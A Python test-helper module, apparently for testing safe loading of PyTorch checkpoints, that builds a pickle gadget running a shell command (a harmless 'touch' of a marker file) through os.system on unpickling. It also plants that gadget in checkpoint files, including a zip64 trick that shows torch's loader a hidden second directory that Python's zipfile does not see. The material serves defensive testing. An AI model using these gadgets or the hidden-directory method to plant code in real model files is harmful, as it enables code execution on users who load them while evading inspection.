"""Gadgets for the tests of safe loading: unpickling any of them creates a marker file through
os.system, as an attack would run a command; and the plantings that hide them in checkpoint files."""

import os
import pickle
import shlex
import struct
import zipfile
import zlib
from pathlib import Path

import torch


class Gadget:
    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return os.system, (f"touch {shlex.quote(self.marker)}",)


def plant_torch_save(path, marker):
    """A torch.save file (one plain zip) with a gadget beside ordinary tensors."""
    torch.save({"module": {"w": torch.zeros(2)}, "extra": Gadget(marker)}, path)


def plant_plain_pickle(path, marker):
    """Not a zip: torch.load's legacy path unpickles it (as the magic number) straight away."""
    Path(path).write_bytes(pickle.dumps(Gadget(marker), protocol=5))


def directory_entries(directory: bytes):
    """(offset in the directory, name) of each central-directory entry."""
    pos = 0
    while pos < len(directory):
        n_name, n_extra, n_comment = struct.unpack_from("<HHH", directory, pos + 28)
        yield pos, directory[pos + 46:pos + 46 + n_name]
        pos += 46 + n_name + n_extra + n_comment


def plant_second_directory(path, marker) -> bytes:
    """Rewrite a file torch.save wrote so that torch's zip reader (which follows the zip64 locator's
    offset) finds a second central directory, whose `data.pkl` is a gadget, while Python's `zipfile`
    (which reads the zip64 end record just before the locator) finds the original directory and
    members, unchanged. Returns the original `data.pkl`."""
    data = Path(path).read_bytes()
    z64 = struct.unpack_from("<Q", data, len(data) - 22 - 20 + 8)[0]  # the locator's offset of the zip64 end record
    cd_size, cd_offset = struct.unpack_from("<QQ", data, z64 + 40)
    directory = data[cd_offset:cd_offset + cd_size]
    entry, name = next((pos, n) for pos, n in directory_entries(directory) if n.endswith(b"/data.pkl"))
    with zipfile.ZipFile(path) as z:
        original = z.read(name.decode())
    payload = pickle.dumps(Gadget(marker), protocol=2)
    crc = zlib.crc32(payload)
    gadget_at = cd_offset  # after the original members
    gadget = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(payload), len(payload),
                         len(name), 0) + name + payload
    second = bytearray(directory)
    struct.pack_into("<H", second, entry + 8, 0)  # no data descriptor
    struct.pack_into("<III", second, entry + 16, crc, len(payload), len(payload))
    struct.pack_into("<I", second, entry + 42, gadget_at)
    second_at = gadget_at + len(gadget)
    second_end = bytearray(data[z64:z64 + 56])
    struct.pack_into("<Q", second_end, 48, second_at)
    first_at = second_at + len(second) + 56
    first_end = bytearray(data[z64:z64 + 56])
    struct.pack_into("<Q", first_end, 48, first_at)
    locator = bytearray(data[z64 + 56:z64 + 76])
    struct.pack_into("<Q", locator, 8, second_at + len(second))  # torch: the second zip64 end record
    Path(path).write_bytes(data[:cd_offset] + gadget + second + second_end + directory + first_end + locator
                           + data[z64 + 76:])
    return original
